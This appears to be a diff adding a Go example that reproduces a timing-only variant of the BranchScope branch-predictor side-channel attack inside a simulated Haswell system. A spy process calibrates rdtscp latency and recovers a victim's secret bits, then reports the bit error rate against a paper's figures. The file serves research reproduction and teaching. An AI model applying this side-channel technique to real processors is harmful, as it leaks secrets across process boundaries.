@@ -1,0 +1,44 @@
+// Timing: run the attack without performance counters, detecting branch
+// predictor events purely through rdtscp latency (§8). The spy first
+// calibrates a hit/miss threshold on its own branches, then probes with
+// timestamp measurements instead of PMC reads — the variant available to
+// fully unprivileged attackers.
+package main
+
+import (
+	"fmt"
+	"log"
+
+	"branchscope"
+)
+
+func main() {
+	sys := branchscope.NewSystem(branchscope.Haswell(), 12)
+	secret := branchscope.NewRand(3).Bits(200)
+	victim := sys.Spawn("victim", branchscope.SecretArraySender(secret, 0))
+
+	spy := sys.NewProcess("spy")
+	sess, err := branchscope.NewSession(spy, branchscope.NewRand(1), branchscope.AttackConfig{
+		Search: branchscope.SearchConfig{
+			TargetAddr: branchscope.SecretBranchAddr,
+			Focused:    true,
+		},
+		UseTiming: true, // rdtscp probing instead of the PMC
+	})
+	if err != nil {
+		log.Fatalf("pre-attack search failed: %v", err)
+	}
+	fmt.Printf("calibrated %s\n", sess.Detector())
+
+	errs := 0
+	for _, want := range secret {
+		if sess.SpyBit(victim, nil, nil) != want {
+			errs++
+		}
+	}
+	fmt.Printf("timing-only attack: %d/%d bit errors (%.2f%%)\n",
+		errs, len(secret), 100*float64(errs)/float64(len(secret)))
+	fmt.Println("(single-shot timing detection carries ~10% error — Figure 8's")
+	fmt.Println(" m=1 point; the PMC variant of the same attack is near-zero error,")
+	fmt.Println(" and averaging repeated measurements drives timing error to ~0)")
+}
